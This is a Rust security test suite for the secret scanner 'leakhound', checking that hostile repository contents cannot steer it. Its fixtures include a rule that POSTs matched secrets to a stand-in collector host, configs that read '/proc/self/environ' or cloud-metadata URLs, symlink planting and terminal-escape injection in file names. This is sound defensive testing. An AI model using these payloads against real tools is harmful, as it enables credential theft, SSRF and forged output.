//! The scanned tree is untrusted input: configs, ignore files, symlinks,
//! file names and commit messages from it must never steer the scanner.
//! One test (or more) per finding of the adversarial review (issue 11).
//!
//! Tokens are generated here: random characters of the right alphabet, not
//! real keys.

use std::{
    io::{Read, Write},
    net::TcpListener,
    path::Path,
    process::Command as Process,
    time::{Duration, Instant},
};

use assert_cmd::Command;
use serde_json::Value;
use tempfile::TempDir;

/// `len` deterministic characters from `alphabet`.
fn random_chars(seed: u64, len: usize, alphabet: &[u8]) -> String {
    let mut state = seed
        .wrapping_mul(6364136223846793005)
        .wrapping_add(1442695040888963407);
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            alphabet[(state % alphabet.len() as u64) as usize] as char
        })
        .collect()
}

const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

fn github_token(seed: u64) -> String {
    format!("ghp_{}", random_chars(seed, 36, ALNUM))
}

/// What a hostile config tries to read; must never reach the output.
const CANARY: &str = "LEAKHOUND_CANARY_5f1d0c9e";

fn leakhound() -> Command {
    let mut cmd = Command::cargo_bin("leakhound").expect("the binary is built by cargo test");
    cmd.env("NO_COLOR", "1").env("LEAKHOUND_TEST_CANARY", CANARY);
    cmd.timeout(Duration::from_secs(60));
    cmd
}

fn write(root: &Path, path: &str, contents: impl AsRef<[u8]>) {
    let full = root.join(path);
    if let Some(parent) = full.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(full, contents).expect("write");
}

fn stderr_of(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn all_output(out: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A file outside the scanned tree holding the canary.
fn secret_outside(dir: &TempDir) -> std::path::PathBuf {
    let path = dir.path().join("outside-credentials");
    std::fs::write(&path, format!("[default]\naws_secret = {CANARY}\n")).expect("write");
    path
}

// 1. A discovered config reads any local file into the log.

#[test]
fn a_discovered_config_cannot_extend_a_file_outside_the_tree() {
    let dir = TempDir::new().expect("tempdir");
    let outside = secret_outside(&dir);
    let tree = dir.path().join("tree");
    for base in [outside.display().to_string(), "/proc/self/environ".to_string()] {
        write(
            &tree,
            ".gitleaks.toml",
            format!("[extend]\npath = \"{base}\"\nuseDefault = true\n"),
        );
        let out = leakhound()
            .args(["dir", "--quiet"])
            .arg(&tree)
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(2), "{}", all_output(&out));
        let text = all_output(&out);
        assert!(
            !text.contains(CANARY),
            "the outside file leaked into the output: {text}"
        );
        assert!(text.contains("outside the scanned tree"), "{text}");
    }
}

#[cfg(unix)]
#[test]
fn a_discovered_config_that_is_a_symlink_is_refused_unread() {
    let dir = TempDir::new().expect("tempdir");
    let outside = secret_outside(&dir);
    let tree = dir.path().join("tree");
    std::fs::create_dir_all(&tree).expect("mkdir");
    std::os::unix::fs::symlink(&outside, tree.join(".gitleaks.toml")).expect("symlink");
    let out = leakhound()
        .args(["dir", "--quiet"])
        .arg(&tree)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    let text = all_output(&out);
    assert!(!text.contains(CANARY), "{text}");
    assert!(text.contains("symbolic link"), "{text}");
}

#[cfg(unix)]
#[test]
fn extending_a_device_or_a_fifo_fails_at_once_instead_of_hanging() {
    let dir = TempDir::new().expect("tempdir");
    let tree = dir.path().join("tree");
    std::fs::create_dir_all(&tree).expect("mkdir");
    let fifo = tree.join("base.toml");
    assert!(
        Process::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo")
            .success()
    );
    for base in ["base.toml", "/dev/zero"] {
        write(&tree, ".gitleaks.toml", format!("[extend]\npath = \"{base}\"\n"));
        let started = Instant::now();
        let out = leakhound()
            .args(["dir", "--quiet"])
            .arg(&tree)
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(2), "{base}: {}", all_output(&out));
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "{base} held the scan"
        );
        let text = all_output(&out);
        assert!(
            text.contains("not a regular file") || text.contains("outside the scanned tree"),
            "{base}: {text}"
        );
    }
    // A config the user names may not extend a device either.
    let named = dir.path().join("named.toml");
    std::fs::write(&named, "[extend]\npath = \"/dev/zero\"\nuseDefault = true\n").expect("write");
    let out = leakhound()
        .args(["dir", "--quiet", "--config"])
        .arg(&named)
        .arg(&tree)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr_of(&out).contains("not a regular file"),
        "{}",
        stderr_of(&out)
    );
}

#[test]
fn config_errors_give_a_position_and_never_quote_the_file() {
    let dir = TempDir::new().expect("tempdir");
    let config = dir.path().join("broken.toml");
    std::fs::write(
        &config,
        format!("[extend]\nuseDefault = true\nAWS={CANARY} oops\n"),
    )
    .expect("write");
    let out = leakhound()
        .args(["dir", "--config"])
        .arg(&config)
        .arg(dir.path())
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    let text = stderr_of(&out);
    assert!(text.contains("line 3"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}

// 2. Writes follow symlinks the repository controls.

#[cfg(unix)]
#[test]
fn baseline_and_report_files_are_never_written_through_a_symlink() {
    let dir = TempDir::new().expect("tempdir");
    let victim = dir.path().join("bashrc");
    std::fs::write(&victim, "# my shell settings\n").expect("write");
    let tree = dir.path().join("tree");
    write(&tree, "app.env", format!("GITHUB_TOKEN={}\n", github_token(1)));
    std::os::unix::fs::symlink(&victim, tree.join(".leakhound-baseline.json")).expect("symlink");
    std::os::unix::fs::symlink(&victim, tree.join("report.json")).expect("symlink");

    let out = leakhound()
        .current_dir(&tree)
        .args(["baseline", "create", "."])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "{}", all_output(&out));
    assert!(stderr_of(&out).contains("symbolic link"), "{}", stderr_of(&out));

    let out = leakhound()
        .current_dir(&tree)
        .args(["dir", ".", "--format", "json", "--output", "report.json"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "{}", all_output(&out));
    assert!(stderr_of(&out).contains("symbolic link"), "{}", stderr_of(&out));
    assert_eq!(
        std::fs::read_to_string(&victim).expect("read"),
        "# my shell settings\n",
        "the link's target was written"
    );

    // A plain path is written, and `-` is standard output.
    let out = leakhound()
        .current_dir(&tree)
        .args(["dir", ".", "--format", "json", "--output", "fresh.json"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        std::fs::read_to_string(tree.join("fresh.json"))
            .expect("written")
            .contains("github")
    );
    let out = leakhound()
        .current_dir(&tree)
        .args(["dir", ".", "--format", "json", "--output", "-"])
        .output()
        .expect("runs");
    assert!(String::from_utf8_lossy(&out.stdout).contains("github-pat-classic"));
}

// 3. A discovered config can define live checks and replace built-in rules.

#[test]
fn a_discovered_config_may_not_define_live_checks() {
    let dir = TempDir::new().expect("tempdir");
    write(
        dir.path(),
        ".leakhound.toml",
        r#"
[[rule]]
id = "grab-everything"
name = "x"
provider = "x"
severity = "low"
confidence = "low"
keywords = ["the"]
regex = '''(?s)\A(.{1,4000})'''
rotation = { summary = "x", docs = "https://example.invalid", steps = ["x"] }
[rule.verify]
method = "POST"
url = "https://collector.example.net/drop"
body = "{{secret}}"
verified_when = { status = [200] }
"#,
    );
    let out = leakhound()
        .args(["dir", "--verify"])
        .arg(dir.path())
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    let text = stderr_of(&out);
    assert!(text.contains("live check") && text.contains("--config"), "{text}");
}

#[test]
fn a_discovered_config_may_not_replace_a_built_in_rule() {
    let dir = TempDir::new().expect("tempdir");
    write(
        dir.path(),
        ".leakhound.toml",
        r#"
[[rule]]
id = "github-pat-classic"
name = "never matches"
provider = "github"
severity = "low"
confidence = "low"
keywords = ["zzzqqq"]
regex = '''zzzqqq(never)'''
rotation = { summary = "x", docs = "https://example.invalid", steps = ["x"] }
"#,
    );
    write(
        dir.path(),
        "app.env",
        format!("GITHUB_TOKEN={}\n", github_token(2)),
    );
    let out = leakhound().arg("dir").arg(dir.path()).output().expect("runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr_of(&out).contains("replace the built-in rule"),
        "{}",
        stderr_of(&out)
    );
}

#[test]
fn checks_never_go_to_ip_literals_or_local_names_nor_let_a_value_pick_the_domain() {
    let dir = TempDir::new().expect("tempdir");
    let rule = |url: &str| {
        format!(
            r#"
[[rule]]
id = "my-token"
name = "x"
provider = "x"
severity = "low"
confidence = "low"
keywords = ["mytok_"]
regex = '''(mytok_[a-z0-9]{{16}})'''
rotation = {{ summary = "x", docs = "https://example.invalid", steps = ["x"] }}
[rule.verify]
url = "{url}"
headers = {{ Authorization = "Bearer {{{{secret}}}}" }}
verified_when = {{ status = [200] }}
companions = {{ host = '''host=([a-z.]+)''' }}
"#
        )
    };
    let run = |url: &str| {
        let config = dir.path().join("mine.toml");
        std::fs::write(&config, rule(url)).expect("write");
        leakhound()
            .args(["dir", "--config"])
            .arg(&config)
            .arg(dir.path())
            .output()
            .expect("runs")
    };
    // The same rule with a provider's domain loads and scans.
    let out = run("https://{{host}}.api.example.com/x");
    assert_eq!(out.status.code(), Some(0), "{}", all_output(&out));
    for url in [
        "https://127.0.0.1/check",
        "https://169.254.169.254/latest",
        "https://localhost/x",
        "https://{{host}}/x",
        "https://{{host}}.com/x",
    ] {
        let out = run(url);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{url} was accepted: {}",
            all_output(&out)
        );
    }
}

// 4. The commit subject is printed unredacted.

fn git(repo: &Path, args: &[&str]) {
    let status = Process::new("git")
        .current_dir(repo)
        .args(args)
        .env("GIT_AUTHOR_NAME", "A \x1b[31mDev")
        .env("GIT_AUTHOR_EMAIL", "dev@example.com")
        .env("GIT_COMMITTER_NAME", "A Dev")
        .env("GIT_COMMITTER_EMAIL", "dev@example.com")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", repo)
        .status()
        .expect("git runs");
    assert!(status.success(), "git {args:?}");
}

#[test]
fn secrets_in_commit_subjects_are_redacted_in_every_format() {
    let dir = TempDir::new().expect("tempdir");
    let repo = dir.path();
    let in_subject = github_token(3);
    let in_file = github_token(4);
    git(repo, &["init", "-q", "-b", "main", "."]);
    write(repo, "app.env", format!("GITHUB_TOKEN={in_file}\n"));
    git(repo, &["add", "-A"]);
    git(
        repo,
        &["commit", "-q", "-m", &format!("use token {in_subject} for now")],
    );
    for format in ["json", "text", "sarif", "jsonl"] {
        let out = leakhound()
            .args(["git", "--format", format])
            .arg(repo)
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(1), "{}", all_output(&out));
        let text = all_output(&out);
        assert!(
            !text.contains(&in_subject),
            "{format}: the subject's token is shown: {text}"
        );
        assert!(!text.contains(&in_file), "{format}: the file's token is shown");
        if format == "json" {
            let findings: Value = serde_json::from_slice(&out.stdout).expect("json");
            let message = findings[0]["git"]["message"].as_str().expect("a subject");
            assert!(
                message.starts_with("use token ghp_") && message.contains("(redacted)"),
                "{message}"
            );
        }
    }
}

// 5. Snippets show secrets that are not the matched span.

#[test]
fn snippets_hide_every_copy_and_encoded_form_of_the_secret() {
    use base64::Engine as _;
    let dir = TempDir::new().expect("tempdir");
    let token = github_token(5);
    let b64 = base64::engine::general_purpose::STANDARD.encode(&token);
    let password = "Xq7#Lp2!vR9zTk4w"; // leakhound:allow
    let percent = "Xq7%23Lp2%21vR9zTk4w";
    write(
        dir.path(),
        "deploy.sh",
        format!(
            "export GITHUB_TOKEN={token} # again: {token} encoded: {b64}\n\
             DB_PASSWORD=\"{password}\" DATABASE_URL=postgres://app:{percent}@db.internal:5432/app\n"
        ),
    );
    let out = leakhound()
        .args(["dir", "--format", "json", "--decode-depth", "0"])
        .arg(dir.path())
        .output()
        .expect("runs");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("deploy.sh"), "{text}");
    assert!(!text.contains(&token), "{text}");
    assert!(!text.contains(&b64[..40]), "the base64 form is shown: {text}");
    assert!(!text.contains(password) && !text.contains(percent), "{text}");
}

// 6. --verify-timeout is per read, not per request.

#[test]
fn verify_timeout_is_one_deadline_for_a_server_that_trickles() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let mut stream = stream;
                let mut request = [0u8; 4096];
                let _ = stream.read(&mut request);
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n",
                );
                // One byte a second: reqwest's read timeout never fires.
                for _ in 0..4000 {
                    if stream.write_all(b" ").is_err() {
                        return;
                    }
                    std::thread::sleep(Duration::from_millis(500));
                }
            });
        }
    });
    let dir = TempDir::new().expect("tempdir");
    write(
        dir.path(),
        "app.env",
        format!("GITHUB_TOKEN={}\n", github_token(6)),
    );
    let started = Instant::now();
    let out = leakhound()
        .args(["dir", "--format", "json", "--verify", "--verify-timeout", "2"])
        .arg(format!(
            "--verify-base-url=api.github.com=http://127.0.0.1:{port}"
        ))
        .arg(dir.path())
        .output()
        .expect("runs");
    let elapsed = started.elapsed();
    let findings: Value = serde_json::from_slice(&out.stdout).expect("json");
    let verification = &findings[0]["verification"];
    assert_eq!(verification["status"], "unknown", "{verification}");
    assert!(
        verification["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("timed out"),
        "{verification}"
    );
    // Retries may repeat the deadline a bounded number of times; a per-read
    // timeout would take the whole 2,000 s the server offers.
    assert!(elapsed < Duration::from_secs(20), "took {elapsed:?}");
}

// 7. Terminal escapes and forged lines in the text report.

#[cfg(unix)]
#[test]
fn text_reports_escape_control_bidi_and_invisible_characters() {
    let dir = TempDir::new().expect("tempdir");
    let repo = dir.path();
    git(repo, &["init", "-q", "-b", "main", "."]);
    let name = "evil\x1b[2J\rleakhound: no leaks found\u{202e}vne.env";
    write(repo, name, format!("GITHUB_TOKEN={}\n", github_token(7)));
    git(repo, &["add", "-A"]);
    git(
        repo,
        &[
            "commit",
            "-q",
            "-m",
            "subject \x1b]0;title\x07 with\u{200b}zero width",
        ],
    );
    for args in [vec!["dir"], vec!["git"]] {
        let out = leakhound()
            .args(&args)
            .args(["--color", "never"])
            .arg(repo)
            .output()
            .expect("runs");
        let text = all_output(&out);
        assert!(!text.contains('\x1b'), "{args:?}: raw ESC in {text:?}");
        assert!(!text.contains('\r'), "{args:?}: raw CR in {text:?}");
        assert!(
            !text.contains('\u{202e}') && !text.contains('\u{200b}'),
            "{args:?}: {text:?}"
        );
        assert!(
            text.contains("evil\\x1b[2J\\rleakhound: no leaks found\\u{202e}vne.env"),
            "{text}"
        );
    }
    // JSON keeps the exact name; SARIF percent-encodes it in the URI.
    let out = leakhound()
        .args(["dir", "--format", "json"])
        .arg(repo)
        .output()
        .expect("runs");
    let findings: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert!(
        findings[0]["location"]["path"]
            .as_str()
            .expect("path")
            .ends_with(name)
    );
    let out = leakhound()
        .args(["dir", "--format", "sarif"])
        .arg(repo)
        .output()
        .expect("runs");
    let sarif: Value = serde_json::from_slice(&out.stdout).expect("sarif");
    let uri = sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        .as_str()
        .expect("uri");
    assert!(
        uri.contains("evil%1B%5B2J%0Dleakhound%3A%20no%20leaks%20found%E2%80%AEvne.env"),
        "{uri}"
    );
}

#[test]
fn rules_show_escapes_what_a_config_says() {
    let dir = TempDir::new().expect("tempdir");
    let config = dir.path().join("mine.toml");
    std::fs::write(
        &config,
        "[[rule]]\nid = \"mine\"\nname = \"a\\u001b[31m red \\r name\"\nprovider = \"x\"\nseverity = \"low\"\n\
         confidence = \"low\"\nkeywords = [\"mytok_\"]\nregex = '''(mytok_[a-z0-9]{16})'''\n\
         rotation = { summary = \"x\\u001b]0;t\", docs = \"https://example.invalid\", steps = [\"x\"] }\n",
    )
    .expect("write");
    for args in [
        vec!["rules", "show", "mine"],
        vec!["explain", "mine"],
        vec!["rules", "list"],
    ] {
        let out = leakhound()
            .args(&args)
            .arg("--config")
            .arg(&config)
            .output()
            .expect("runs");
        assert!(out.status.success(), "{args:?}: {}", all_output(&out));
        let text = all_output(&out);
        assert!(
            !text.contains('\x1b') && !text.contains('\r'),
            "{args:?}: {text:?}"
        );
    }
}

// 11. A discovered config stalls the start.

#[test]
fn a_discovered_config_cannot_stall_the_start() {
    let dir = TempDir::new().expect("tempdir");
    let long_keyword = "k".repeat(20_000);
    write(
        dir.path(),
        ".gitleaks.toml",
        format!(
            "[extend]\nuseDefault = true\n[[rules]]\nid = \"a\"\nregex = 'x(y)'\nkeywords = [\"{long_keyword}\"]\n"
        ),
    );
    let started = Instant::now();
    let out = leakhound().arg("dir").arg(dir.path()).output().expect("runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr_of(&out).contains("keyword of 20000 bytes"),
        "{}",
        stderr_of(&out)
    );
    assert!(started.elapsed() < Duration::from_secs(10));

    let mut many = String::from("[extend]\nuseDefault = true\n");
    for i in 0..5_000 {
        many.push_str(&format!(
            "[[rules]]\nid = \"r{i}\"\nregex = 'tok{i}_([a-z]{{8}})'\nkeywords = [\"tok{i}_\"]\n"
        ));
    }
    write(dir.path(), ".gitleaks.toml", many);
    let started = Instant::now();
    let out = leakhound().arg("dir").arg(dir.path()).output().expect("runs");
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert!(
        stderr_of(&out).contains("5000 rules, more than the 500"),
        "{}",
        stderr_of(&out)
    );
    assert!(started.elapsed() < Duration::from_secs(10));
}

// 13. .gitleaksignore and discovered allowlists, silently.

#[test]
fn no_config_discovery_and_ignore_file_turn_off_the_trees_gitleaksignore() {
    let dir = TempDir::new().expect("tempdir");
    write(
        dir.path(),
        "app.env",
        format!("GITHUB_TOKEN={}\n", github_token(8)),
    );
    write(dir.path(), ".gitleaksignore", "app.env:github-pat:1\n");
    let empty = dir.path().join("empty-ignore.toml");
    std::fs::write(&empty, "").expect("write");
    // Discovered: the entry applies, and the summary says where it came from.
    let out = leakhound()
        .args(["dir", "--quiet"])
        .arg(dir.path())
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(0), "{}", all_output(&out));
    assert!(
        stderr_of(&out).contains(".gitleaksignore (1 entries)"),
        "{}",
        stderr_of(&out)
    );
    for extra in [
        vec!["--no-config-discovery".to_string()],
        vec!["--ignore-file".to_string(), empty.display().to_string()],
    ] {
        let out = leakhound()
            .arg("dir")
            .args(&extra)
            .arg(dir.path())
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(1), "{extra:?}: {}", all_output(&out));
    }
}

#[test]
fn a_discovered_allowlist_is_named_even_under_quiet() {
    let dir = TempDir::new().expect("tempdir");
    write(
        dir.path(),
        "app.env",
        format!("GITHUB_TOKEN={}\n", github_token(9)),
    );
    write(
        dir.path(),
        ".gitleaks.toml",
        "[extend]\nuseDefault = true\n[allowlist]\nregexes = ['''.*''']\n",
    );
    let out = leakhound()
        .args(["dir", "--quiet"])
        .arg(dir.path())
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(0));
    let text = stderr_of(&out);
    assert!(
        text.contains("the scanned tree provided")
            && text.contains(".gitleaks.toml (0 rule(s), 1 allowlist(s))"),
        "{text}"
    );
    let out = leakhound()
        .args(["dir", "--quiet", "--no-config-discovery"])
        .arg(dir.path())
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1));
}

#[cfg(unix)]
#[test]
fn hook_install_never_writes_through_a_planted_link() {
    let dir = TempDir::new().expect("tempdir");
    let repo = dir.path().join("repo");
    std::fs::create_dir_all(repo.join(".githooks")).expect("mkdir");
    git(&repo, &["init", "-q", "-b", "main", "."]);
    git(&repo, &["config", "core.hooksPath", ".githooks"]);
    // A dangling link: following it would create a file of the attacker's choosing.
    let target = dir.path().join("created-by-the-link");
    std::os::unix::fs::symlink(&target, repo.join(".githooks/pre-commit")).expect("symlink");
    let out = leakhound()
        .env("HOME", &repo)
        .args(["hook", "install"])
        .arg(&repo)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "{}", all_output(&out));
    assert!(!target.exists(), "the hook was written through the link");
    let out = leakhound()
        .env("HOME", &repo)
        .args(["hook", "install", "--force"])
        .arg(&repo)
        .output()
        .expect("runs");
    assert!(out.status.success(), "{}", all_output(&out));
    assert!(!target.exists(), "the hook was written through the link");
    let hook = repo.join(".githooks/pre-commit");
    assert!(std::fs::symlink_metadata(&hook).expect("hook").is_file());
    assert!(
        std::fs::symlink_metadata(repo.join(".githooks/pre-commit.before-leakhound"))
            .expect("the link is kept aside")
            .file_type()
            .is_symlink()
    );
}
